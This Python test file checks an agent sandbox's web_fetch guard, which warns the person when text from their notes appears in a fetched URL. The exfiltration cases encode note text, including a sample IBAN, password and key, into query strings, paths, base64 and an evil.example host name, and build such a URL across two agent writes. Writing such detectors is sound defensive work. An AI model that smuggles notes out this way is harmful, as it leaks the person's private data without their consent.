"""Text of notes that would leave this computer is recognised in any case, form and spacing, and asked about."""

import base64
import unicodedata
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from bridge.contract.consent import Decision
from bridge.testing import sandbox
from bridge.testing.sandbox import Sandbox
from bridge.tools.web.web_fetch import WebFetchTool
from tests.web_servers import LocalWeb, answer, web_services

SHORT = "PIN 4711\nIBAN\nDE89 3704 0044 0532 0130 00\nPassword\nhunter2!xyz\n"
WRAPPED = "On Tuesday the\ndoctor said it\nis nothing that\nshould worry me\nfor long.\n"
KEY = "a7f3k9q2m5x8c1v4b6n0z2l7j4h9g3d5s8w1"
GERMAN = "Die Schl\u00fcssel liegen unter dem gro\u00dfen Blumentopf am Gartentor.\n"
TINY = "bluewhale sesame"
LINK = "https://sea.example/read/an-article-with-a-long-name-of-its-own?id=123456789012"
PLAIN = "https://sea.example/b"


@pytest.fixture
async def vault(tmp_path: Path) -> AsyncIterator[Sandbox]:
    notes = {"Short.md": SHORT, "Wrapped.md": WRAPPED, "Key.md": f"key: {KEY}\n", "German.md": GERMAN, "Tiny.md": TINY}
    notes["Links.md"] = f"See [it]({LINK}).\n"
    async with LocalWeb().serve() as web, sandbox(notes, folder=tmp_path / "Vault") as vault:
        for path in ("/a", "/b", "/c", "/read/an-article-with-a-long-name-of-its-own"):
            web.answers[path] = answer(f"next: {PLAIN}?page=2", kind="text/plain")
        services = web_services(web, tmp_path, lambda: vault.settings.current, lambda _exchanged: None)
        await vault.add(WebFetchTool(services))
        vault.settings.update(
            {"consentMode": {"web_fetch": "always_allow"}, "allowAllDomains": True, "rateLimits": {"web_fetch": 1000}}
        )
        yield vault
        services.reader.close()


async def warned(vault: Sandbox, url: str, **arguments: Any) -> str:
    """What the person was warned of when a page was fetched; empty where nobody was asked."""
    vault.asked.clear()
    await vault.call("web_fetch", url=url, format="raw", **arguments)
    return " ".join(warning for asked in vault.asked for warning in asked["preview"]["warnings"])


def every_20(text: str) -> str:
    return "\n".join(text[at : at + 20] for at in range(0, len(text), 20))


@pytest.mark.parametrize(
    ("note", "sent"),
    [
        ("Short.md", f"/a?q={quote(SHORT)}"),
        ("Short.md", "/a?q=DE89370400440532013000"),
        ("Short.md", "/a?x=aaHunter2xyzbb"),
        ("Wrapped.md", f"/a?q={quote(WRAPPED.replace(chr(10), ' '))}"),
        ("Wrapped.md", f"/a?q={quote(every_20(WRAPPED.replace(chr(10), ' ')))}"),
        ("Wrapped.md", "/a/on-tuesday-the-doctor-said-it-is"),
        ("Wrapped.md", "/a?a=On Tuesday&b=the doctor&c=said it&d=is nothing"),
        ("Wrapped.md", f"/a?q={base64.urlsafe_b64encode(WRAPPED.encode()).decode()}"),
        ("Wrapped.md", f"/a?q=x{base64.b64encode(WRAPPED.encode()).decode()}"),
        ("German.md", f"/a?q={quote(unicodedata.normalize('NFD', GERMAN))}"),
        ("German.md", f"/a?q={quote(GERMAN.upper())}"),
        ("Tiny.md", "/a?q=Blue-Whale-Sesame"),
    ],
)
async def test_text_of_a_note_in_an_address_is_asked_about(vault: Sandbox, note: str, sent: str) -> None:
    assert f"also stands in {note}" in await warned(vault, f"https://sea.example{sent}")


@pytest.mark.parametrize("host", [KEY, f"{KEY[:18]}.{KEY[18:]}", "on-tuesday.the-doctor-said.it-is"])
async def test_text_of_a_note_in_the_name_of_a_host_is_asked_about(vault: Sandbox, host: str) -> None:
    assert "It carries text" in await warned(vault, f"https://{host}.evil.example/a")


@pytest.mark.parametrize(
    "url",
    [
        LINK,
        "https://sea.example/a?q=4711",
        "https://sea.example/a?date=2026-11-23&time=10:30",
        f"https://sea.example/a?q={WRAPPED.encode()[::2].hex()}",
        f"https://sea.example/a?q={base64.b64encode(base64.b64encode(WRAPPED.encode())).decode()}",
    ],
)
async def test_what_the_page_says_is_not_recognised_is_not(vault: Sandbox, url: str) -> None:
    assert await warned(vault, url) == ""


async def test_an_address_that_an_agent_wrote_is_not_the_persons_and_the_write_warns_of_it(vault: Sandbox) -> None:
    url = f"https://sea.example/c?d={quote(WRAPPED)}"
    vault.answer = Decision.ALLOW_SESSION
    await vault.succeed("create_note", path="New.md", content="plain\n")
    vault.answer = Decision.ALLOW_ONCE
    vault.asked.clear()
    await vault.succeed("create_note", path="Sources.md", content=f"[source]({url})\n")
    (question,) = vault.asked
    assert any("carries text that also stands in Wrapped.md" in said for said in question["preview"]["warnings"])
    assert "allow_session" not in question["choices"]
    assert "also stands in" in await warned(vault, url)


async def test_an_address_that_is_put_together_in_two_writes_is_not_the_persons_either(vault: Sandbox) -> None:
    await vault.succeed("create_note", path="Sources.md", content="https://sea.example/c?d=\n")
    url = f"https://sea.example/c?d={quote(WRAPPED)}"
    await vault.succeed("write_file", path="Sources.md", content=f"{url}\n")
    assert "also stands in" in await warned(vault, url)


async def test_after_a_page_only_addresses_that_were_read_are_fetched_unasked(vault: Sandbox) -> None:
    assert await warned(vault, PLAIN) == ""
    assert await warned(vault, f"{PLAIN}?page=2") == ""
    assert "put together itself" in await warned(vault, f"{PLAIN}?page=3")
    assert "put together itself" in await warned(vault, "https://sea.example/c")
    assert await warned(vault, LINK) == ""


async def test_a_preview_of_a_write_tells_nothing_of_the_notes(vault: Sandbox) -> None:
    plan = await vault.preview("create_note", path="New.md", content=f"https://sea.example/c?d={quote(WRAPPED)}\n")
    assert "carries" not in str(plan.to_wire())
